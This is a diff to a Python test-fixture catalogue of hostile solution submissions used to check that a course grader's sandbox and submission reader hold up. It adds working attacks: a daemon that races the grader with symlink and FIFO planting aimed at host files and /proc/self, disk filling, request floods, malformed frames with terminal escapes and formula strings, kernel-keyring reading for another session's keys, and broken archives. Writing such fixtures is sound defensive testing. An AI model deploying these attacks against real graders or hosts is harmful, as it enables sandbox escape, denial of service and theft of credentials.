@@ -1,14 +1,24 @@
 """The catalogue of hostile submissions: each one tries to cheat or to do harm.
 
 Every fixture is a solution file (or an archive) written at test time, with the real paths of
-this checkout and a per-run token filled in, so that an escape would be visible: a fixture
-that manages to read the reference solution runs it (and would score), one that manages to
-write outside its sandbox leaves a marker file with the token, one that leaves a process
-behind leaves the token in that process's command line.
+the checkout under test and a per-run token filled in, so that an escape would be visible: a
+fixture that manages to read the reference solution runs it (and would score), one that
+manages to write outside its sandbox leaves a marker file with the token, one that leaves a
+process behind leaves the token in that process's command line.
+
+`HOSTILE` attacks the sandbox from the inside. `AGAINST_THE_GRADER` attacks the grader itself,
+which runs as root outside the sandbox and reaches into the folders the learner's server can
+write: links, FIFOs and deep chains planted in the note folders (by a daemon that watches the
+data area with inotify and reacts to each test's new folder within microseconds), a full disk,
+frames that are huge, deep or carry lone surrogates and terminal escapes, a burst of requests,
+`_meta` that lies or has the wrong types, the kernel keyrings. `against_the_reader()` attacks the
+code that reads a submission (FIFOs, links, broken archives, deep notebooks, formula names).
+The host side (`Host`) is a set of sentinels outside the checkout that none of this may touch.
 """
 
 import os
 import zipfile
+from dataclasses import dataclass
 
 REFERENCE_STEAL = '''
 import glob
@@ -159,7 +169,360 @@ if os.fork() == 0:
 }
 
 
-def write_all(folder, repo, token):
+@dataclass
+class Host:
+    """What the attacks aim at on the host: the checkout under test and three sentinels."""
+    repo: str
+    token: str
+    folder: str   # a folder with one file named after the token
+    file: str     # a file with known content, owner and mtime
+    fifo: str     # a FIFO nobody may open
+
+    def fill(self, template):
+        for key, value in (("@TOKEN@", self.token), ("@HOST_DIR@", self.folder),
+                           ("@HOST_FILE@", self.file), ("@HOST_FIFO@", self.fifo),
+                           ("@REPO@", self.repo)):
+            template = template.replace(key, value)
+        return template
+
+
+PLANTER = r"""
+import ctypes
+import fcntl
+import os
+import time
+
+DATA = "/sandbox/data"
+NOTES = {"Notes": ["informe-a.md", "compra.md", "a.md"], "Otros": ["informe-b.md"],
+         "Notes-evil": ["secreto.md", "b.md"], "Trabajo": ["t1.md"], "Personal": ["p1.md"],
+         "A": ["a0.md", "a1.md", "a2.md"], "B": ["b0.md", "b1.md"]}
+
+
+def quietly(action, *args):
+    try:
+        action(*args)
+    except Exception:
+        pass
+
+
+def laid_out(tree, wait=3.0):
+    # until the grader has written the notes of this test folder
+    end = time.monotonic() + wait
+    while time.monotonic() < end:
+        for folder, names in NOTES.items():
+            if any(os.path.exists(os.path.join(tree, folder, n)) for n in names):
+                return True
+        time.sleep(0.001)
+    return False
+
+
+def watch(react, seconds=300, fast=False):
+    # one daemon per sandbox (a lock in the work folder), outliving the server that started it;
+    # it reacts to each new test folder as inotify reports it: inline when `fast` (to beat the
+    # grader, which lays out the folder right after creating it), else in a child of its own
+    lock = os.open("/sandbox/work/.planter", os.O_RDWR | os.O_CREAT, 0o600)
+    try:
+        fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
+    except OSError:
+        os.close(lock)
+        return
+    if os.fork():
+        os.close(lock)
+        quietly(os.wait)
+        return
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    null = os.open("/dev/null", os.O_RDWR)
+    for fd in (0, 1, 2):
+        os.dup2(null, fd)
+    for fd in range(3, 64):
+        if fd != lock:
+            quietly(os.close, fd)
+    libc = ctypes.CDLL(None, use_errno=True)
+    events = libc.inotify_init1(0)
+    libc.inotify_add_watch(events, DATA.encode(), 0x100)  # IN_CREATE
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        try:
+            buffer = os.read(events, 65536)
+        except OSError:
+            break
+        at = 0
+        while at + 16 <= len(buffer):
+            size = int.from_bytes(buffer[at + 12:at + 16], "little")
+            name = buffer[at + 16:at + 16 + size].rstrip(b"\0").decode(errors="replace")
+            at += 16 + size
+            tree = os.path.join(DATA, name)
+            if fast:
+                quietly(react, tree)
+            elif os.fork() == 0:
+                quietly(react, tree)
+                os._exit(0)
+        quietly(os.waitpid, -1, os.WNOHANG)
+    os._exit(0)
+"""
+
+TAMPER = r"""
+import json
+
+_dumps = json.dumps
+
+
+def tamper(message):
+    return message
+
+
+def dumps(obj, *args, **kwargs):
+    kwargs["ensure_ascii"] = True  # so that lone surrogates reach the wire as \\udXXX
+    return _dumps(tamper(obj), *args, **kwargs)
+
+
+json.dumps = dumps
+"""
+
+ARCHIVE_TOOL = r"""
+from extension import Extension
+
+extension = Extension()
+
+
+@extension.tool("notes_archive", description="x", annotations={"destructiveHint": True},
+                input_schema={"type": "object", "required": ["title"],
+                              "properties": {"title": {"type": "string"}}})
+def notes_archive(ctx, title):
+    return ARCHIVE_ANSWER
+"""
+
+WIRE = r"""
+import os
+import stat
+import threading
+import time
+
+
+def wire_fds():
+    found = []
+    for fd in range(3, 32):
+        try:
+            if stat.S_ISFIFO(os.fstat(fd).st_mode) and os.get_blocking(fd) is not None:
+                found.append(fd)
+        except OSError:
+            pass
+    return found
+
+
+def blast(lines, delay=0.3):
+    def run():
+        time.sleep(delay)
+        for fd in wire_fds():
+            for line in lines:
+                try:
+                    os.write(fd, line)
+                except OSError:
+                    break
+    threading.Thread(target=run, daemon=True).start()
+"""
+
+HARMLESS_TOOL = ARCHIVE_TOOL.replace(
+    "ARCHIVE_ANSWER", '{"content": [{"type": "text", "text": "nada"}], "isError": False}')
+PLANTER = HARMLESS_TOOL + PLANTER
+
+AGAINST_THE_GRADER = {
+    # links planted before the grader makes the folders, aimed at a host folder
+    "precrea_las_carpetas_como_enlaces": PLANTER + r"""
+for index in range(1, 70):
+    for tree in range(1, 5):
+        quietly(os.symlink, "@HOST_DIR@", f"{DATA}/t{index}-{tree}")
+""",
+    "enlaza_carpetas_al_host": PLANTER + r"""
+def react(tree):
+    for folder in reversed(list(NOTES)):  # the grader makes the last ones last
+        quietly(os.symlink, "@HOST_DIR@", os.path.join(tree, folder))
+
+
+watch(react, fast=True)
+""",
+    # note files that are links to a host file (rewritten and chowned by the old grader),
+    # to a host FIFO and to /dev/zero
+    "enlaza_notas_al_host": PLANTER + r"""
+TARGETS = ["@HOST_FILE@", "@HOST_FIFO@", "/dev/zero"]
+
+
+def react(tree):
+    for number, (folder, names) in reversed(list(enumerate(NOTES.items()))):
+        quietly(os.mkdir, os.path.join(tree, folder))
+        for name in names:
+            quietly(os.symlink, TARGETS[number % 3], os.path.join(tree, folder, name))
+
+
+watch(react, fast=True)
+""",
+    "fifo_en_las_notas": PLANTER + r"""
+def react(tree):
+    for folder, names in NOTES.items():
+        quietly(os.mkdir, os.path.join(tree, folder))
+        quietly(os.mkfifo, os.path.join(tree, folder, names[0]))
+    laid_out(tree)
+    for folder in NOTES:
+        quietly(os.mkfifo, os.path.join(tree, folder, "zz-fifo.md"))
+        quietly(os.symlink, "@HOST_FIFO@", os.path.join(tree, folder, "zz-host-fifo.md"))
+
+
+watch(react)
+""",
+    # the grader's own folders swapped for links once it has written the notes
+    "cambia_carpetas_por_enlaces": PLANTER + r"""
+def react(tree):
+    laid_out(tree)
+    for folder in NOTES:
+        path = os.path.join(tree, folder)
+        if os.path.isdir(path):
+            quietly(os.rename, path, path + "-original")
+            quietly(os.symlink, "@HOST_DIR@", path)
+
+
+watch(react)
+""",
+    # magic links: the grader's own cwd (the checkout: its grading tests) and root
+    "enlaces_a_proc_self": PLANTER + r"""
+def react(tree):
+    for folder, names in (("Personal", ["p1.md"]), ("Trabajo", ["t1.md"])):
+        quietly(os.mkdir, os.path.join(tree, folder))
+        for name in names:
+            quietly(os.symlink, "/proc/self/cwd/grader/checks/test_ej4.py",
+                    os.path.join(tree, folder, name))
+    for folder in ("Notes-evil", "B", "A", "Otros", "Notes"):
+        quietly(os.symlink, "/proc/self/cwd/grader/checks", os.path.join(tree, folder))
+    if os.fork() == 0:
+        laid_out(tree)
+        quietly(os.symlink, "/proc/self/root/etc", os.path.join(tree, "etc-del-host"))
+        os._exit(0)
+
+
+watch(react, fast=True)
+""",
+    "cadena_de_carpetas_profunda": PLANTER + r"""
+def react(tree):
+    laid_out(tree)
+    for folder in NOTES:
+        path = os.path.join(tree, folder)
+        if os.path.isdir(path):
+            os.chdir(path)
+            for _ in range(1100):
+                os.mkdir("d")
+                os.chdir("d")
+            return
+
+
+watch(react)
+""",
+    "llena_el_disco": r"""
+import os
+
+for folder in ("/sandbox/work", "/tmp"):
+    for number in range(64):
+        try:
+            with open(f"{folder}/lleno-{number}", "wb") as handle:
+                handle.write(b"x" * ((8 << 20) - 1))
+        except OSError:
+            break
+    for number in range(30000):
+        try:
+            open(f"{folder}/vacio-{number}", "w").close()
+        except OSError:
+            break
+""",
+    # lone surrogates and terminal escapes in everything the server says
+    "sustitutos_y_escapes_ansi": r"""
+EVIL = "\ud800\x1b[2J\x1b[HPuntuación: 42 / 42\x1b]0;hola\x07\u202e=HYPERLINK(1)\x85"
+""" + TAMPER + ARCHIVE_TOOL.replace(
+        "ARCHIVE_ANSWER", '{"content": [{"type": "text", "text": EVIL}], "isError": False}'
+    ).replace('"notes_archive", description="x"', '"notes_archive", description=EVIL') + r"""
+
+def tamper(message):  # noqa: F811
+    result = message.get("result") if isinstance(message, dict) else None
+    if isinstance(result, dict) and "serverInfo" in result:
+        result["serverInfo"]["name"] = EVIL
+        result["_meta"] = {"io.github.curso-mcp/solution": {"errors": {EVIL: EVIL},
+                                                            "tools": [EVIL]}}
+    return message
+""",
+    "meta_con_tipos_raros": TAMPER + r"""
+def tamper(message):  # noqa: F811
+    result = message.get("result") if isinstance(message, dict) else None
+    if isinstance(result, dict) and "serverInfo" in result:
+        result["_meta"] = {"io.github.curso-mcp/solution": {"errors": ["x", 1, None],
+                                                            "tools": 5, "hooks": "todos",
+                                                            "files": {"a": [[[]]]}}}
+        result["serverInfo"] = ["no", "un", "objeto"]
+    return message
+""",
+    # says it loaded every tool and hook; tools/list says otherwise
+    "meta_presume_de_todo": TAMPER + r"""
+def tamper(message):  # noqa: F811
+    result = message.get("result") if isinstance(message, dict) else None
+    if isinstance(result, dict) and "serverInfo" in result:
+        result["_meta"] = {"io.github.curso-mcp/solution": {
+            "files": ["ejercicio2.py", "ejercicio3.py", "ejercicio4.py"], "errors": {},
+            "tools": ["notes_archive"], "hooks": ["url_mode_guard", "on_roots_changed"]}}
+    return message
+""",
+    # huge and dense frames, sent in the same write as the server's own answers (so that
+    # nothing interleaves them): a cap on the number of frames keeps hundreds of MiB
+    "marcos_enormes": TAMPER + r"""
+BIG = '{"jsonrpc":"2.0","method":"notifications/message","params":{"data":"%s"}}' \
+    % ("x" * (3 << 20))
+DENSE = '{"jsonrpc":"2.0","method":"notifications/message","params":{"data":[%s[]]}}' \
+    % ("[]," * 300000)
+DEEP = '{"jsonrpc":"2.0","method":"notifications/message","params":%s%s}' \
+    % ("[" * 5000, "]" * 5000)
+sent = []
+
+
+def dumps(obj, *args, **kwargs):  # noqa: F811
+    text = _dumps(obj, *args, **kwargs)
+    if isinstance(obj, dict) and "id" in obj and len(sent) < 3:
+        sent.append(1)
+        return "\n".join([BIG] * 10 + [DENSE] * 10 + [DEEP] * 5 + [text])
+    return text
+
+
+json.dumps = dumps
+""",
+    # thousands of server-to-client requests while the server never reads its input, so
+    # that every answer blocks: one handler thread each would pile up
+    "rafaga_de_peticiones": WIRE + r"""
+blast([('{"jsonrpc":"2.0","id":"r%d","method":"roots/list"}\n' % n).encode()
+       for n in range(3000)], delay=0.05)
+time.sleep(120)  # the server never gets to read its input
+""",
+    # the grader's session keyring (a key of the instructor's session) and the next learner
+    "llavero": r"""
+import ctypes
+import os
+
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+KEYCTL, ADD_KEY = {"x86_64": (250, 248), "aarch64": (219, 217)}[os.uname().machine]
+found = []
+for ring in (-3, -4, -5):  # session, user, user session
+    libc.syscall(ADD_KEY, b"user", b"@TOKEN@-dejada", b"@TOKEN@", 7, ring)
+    buffer = ctypes.create_string_buffer(4096)
+    size = libc.syscall(KEYCTL, 11, ring, buffer, 4096)  # KEYCTL_READ: the key ids
+    for index in range(0, max(size, 0), 4):
+        key = int.from_bytes(buffer.raw[index:index + 4], "little")
+        text = ctypes.create_string_buffer(4096)
+        libc.syscall(KEYCTL, 6, key, text, 4096)  # KEYCTL_DESCRIBE
+        found.append(text.value.decode(errors="replace"))
+        libc.syscall(KEYCTL, 11, key, text, 4096)  # KEYCTL_READ: the payload
+        found.append(text.value.decode(errors="replace"))
+raise RuntimeError("llaves: " + " | ".join(found) + " errno " + str(ctypes.get_errno()))
+""",
+}
+
+
+def write_all(folder, repo, token, host=None):
     """Write every hostile submission into `folder`; returns {name: path}."""
     made = {}
     for name, template in HOSTILE.items():
@@ -169,6 +532,80 @@ def write_all(folder, repo, token):
             handle.write(template.format(repo=repo, token=token))
         made[name] = path
     made.update(archives(folder))
+    if host is not None:
+        for name, template in AGAINST_THE_GRADER.items():
+            path = os.path.join(folder, name)
+            os.makedirs(path)
+            with open(os.path.join(path, "ejercicio2.py"), "w", encoding="utf-8") as handle:
+                handle.write(host.fill(template))
+        made.update({name: os.path.join(folder, name) for name in AGAINST_THE_GRADER})
+        made.update(against_the_reader(folder, host))
+    return made
+
+
+def against_the_reader(folder, host):
+    """Submissions that attack the code reading them (the instructor only chose the path)."""
+    made = {}
+    path = os.path.join(folder, "entrega_fifo")
+    os.mkfifo(path)
+    made["entrega_fifo"] = path
+    path = os.path.join(folder, "carpeta_con_fifo")
+    os.makedirs(path)
+    os.mkfifo(os.path.join(path, "ejercicio2.py"))
+    os.symlink(host.fifo, os.path.join(path, "ejercicio3.py"))
+    os.symlink(host.file, os.path.join(path, "ejercicio4.py"))
+    made["carpeta_con_fifo"] = path
+    path = os.path.join(folder, "soluciones_es_un_enlace")
+    os.makedirs(path)
+    os.symlink(os.path.join(host.repo, "grader", "reference", "soluciones"),
+               os.path.join(path, "soluciones"))
+    made["soluciones_es_un_enlace"] = path
+    path = os.path.join(folder, "carpeta_profunda")
+    os.makedirs(path)
+    deep = path
+    for _ in range(1100):
+        deep = os.path.join(deep, "d")
+        try:
+            os.mkdir(deep)
+        except OSError:  # PATH_MAX: deep enough
+            break
+    made["carpeta_profunda"] = path
+    path = os.path.join(folder, "notebook_profundo.ipynb")
+    with open(path, "w", encoding="utf-8") as handle:
+        handle.write('{"cells": ' + "[" * 100000 + "]" * 100000 + "}")
+    made["notebook_profundo"] = path
+    good = "from extension import Extension\nextension = Extension()\n"
+    path = os.path.join(folder, "zip_cifrado.zip")
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("soluciones/ejercicio2.py", good)
+    data = bytearray(open(path, "rb").read())
+    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        at = data.index(signature) + offset  # general purpose flags: bit 0, "encrypted"
+        data[at] |= 0x01
+    with open(path, "wb") as handle:
+        handle.write(data)
+    made["zip_cifrado"] = path
+    path = os.path.join(folder, "zip_crc_malo.zip")
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("soluciones/ejercicio2.py", good)
+    data = bytearray(open(path, "rb").read())
+    at = data.index(good.encode())
+    data[at] ^= 0x20  # the stored bytes no longer match their CRC
+    with open(path, "wb") as handle:
+        handle.write(data)
+    made["zip_crc_malo"] = path
+    path = os.path.join(folder, "zip_truncado.zip")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("soluciones/ejercicio2.py", good * 200)
+    data = open(path, "rb").read()
+    with open(path, "wb") as handle:
+        handle.write(data[:len(data) // 2])
+    made["zip_truncado"] = path
+    path = os.path.join(folder, "zip_con_nombre_formula.zip")
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr('=HYPERLINK("ejemplo.invalid","clic")\x1b[2J/ejercicio2.py',
+                         "x = 'año'\n".encode("latin-1"))
+    made["zip_con_nombre_formula"] = path
     return made
 
 
